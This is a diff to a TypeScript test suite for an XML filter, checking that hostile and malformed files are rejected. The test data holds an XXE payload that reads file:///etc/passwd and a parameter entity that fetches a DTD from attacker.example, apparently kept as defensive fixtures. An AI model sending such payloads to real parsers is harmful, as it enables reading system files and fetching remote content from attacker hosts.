@@ -19,27 +19,29 @@ const billionLaughs = [
 
 describe('xml filter, hostile and broken files', () => {
   it('refuses entity declarations: billion laughs and XXE', async () => {
-    await expect(xmlFilter.parse(encode(billionLaughs), {})).rejects.toThrow(/declares entities/);
+    await expect(async () => xmlFilter.parse(encode(billionLaughs), {})).rejects.toThrow(
+      /declares entities/,
+    );
     const xxe =
       '<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>';
-    for (const rulesFormat of ['PLAIN', 'XPATH']) {
-      await expect(xmlFilter.parse(encode(xxe), { xmlRulesFormat: rulesFormat })).rejects.toThrow(
-        FilterError,
-      );
+    for (const rulesFormat of ['PLAIN', 'XPATH'] as const) {
+      await expect(async () =>
+        xmlFilter.parse(encode(xxe), { xmlRulesFormat: rulesFormat }),
+      ).rejects.toThrow(FilterError);
     }
     const parameter =
       '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><foo/>';
-    await expect(xmlFilter.parse(encode(parameter), {})).rejects.toThrow(FilterError);
+    await expect(async () => xmlFilter.parse(encode(parameter), {})).rejects.toThrow(FilterError);
   });
 
   it('names the line of a well-formedness error', async () => {
-    await expect(
+    await expect(async () =>
       xmlFilter.parse(encode('<?xml version="1.0"?>\n<doc>\n  <p>open\n</doc>'), {}),
     ).rejects.toThrow(/not well-formed at line 4/);
-    await expect(xmlFilter.parse(encode(''), {})).rejects.toThrow(FilterError);
-    await expect(xmlFilter.merge(encode('{"format":"html"}'), new Map(), {})).rejects.toThrow(
-      FilterError,
-    );
+    await expect(async () => xmlFilter.parse(encode(''), {})).rejects.toThrow(FilterError);
+    await expect(async () =>
+      xmlFilter.merge(encode('{"format":"html"}'), new Map(), {}),
+    ).rejects.toThrow(FilterError);
   });
 
   it('ends in a FilterError when bytes are corrupted anywhere', { timeout: 30_000 }, async () => {
